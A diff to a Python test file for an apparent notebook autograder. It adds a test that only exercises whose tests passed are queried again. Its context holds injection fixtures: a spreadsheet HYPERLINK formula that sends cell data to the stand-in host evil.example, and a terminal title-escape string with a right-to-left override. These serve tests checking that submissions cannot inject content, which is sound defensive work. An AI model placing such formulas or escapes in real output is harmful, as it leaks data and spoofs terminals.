@@ -17,6 +17,7 @@ from oxus.grader.execute import PipedExecute
 from oxus.grader.outcomes import Journal, Outcome, table, write_summary
 from oxus.grader.pipe import Pipe
 from oxus.grader.run import Run
+from oxus.grader.second_opinion import Asked, Call, question
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A2&C2,"click")'
 TITLE = "\x1b]0;owned\x07\u202e"
@@ -91,6 +92,28 @@ def run(child: Child, cells: int = 1, **settings: Any) -> Run:
 )
 def test_a_submission_cannot_word_the_reason_for_its_end(ended, reason):
     assert run(Child(lambda _: iter([{"ended": ended, "reason": FORMULA}]))).stopped == reason
+
+
+@pytest.mark.parametrize("failed", [False, True])
+def test_only_an_exercise_whose_tests_passed_is_asked_again(failed):
+    asked: list[str] = []
+    grader = {"schema_version": 3, "grade": True, "solution": False, "locked": True, "points": 1}
+    cells = [new_code_cell(n, metadata={"nbgrader": grader | {"grade_id": n}}) for n in ("test_a", "test_b")]
+
+    def answers(request):
+        error = {"status": "error", "ename": "AssertionError", "evalue": "", "traceback": []}
+        asked.append(request["source"])
+        wrong = (
+            request["source"] == "test_a" and failed or request["source"].startswith("assert")
+        )  # the canary
+        yield child.reply(request, **({"reply": error} if wrong else {}))
+
+    child = Child(answers)
+    call = Call(("double", [2], {"dict": []}, None), 4, "double(2)")
+    plan = {"double": Asked(("test_a", "test_b"), (call,))}
+    PipedExecute().run(new_notebook(cells=cells), child, plan=plan)
+    child.end()
+    assert [source == question([call]) for source in asked[3:]] == ([] if failed else [True])
 
 
 def test_what_a_submission_changed_is_named_without_control_characters():
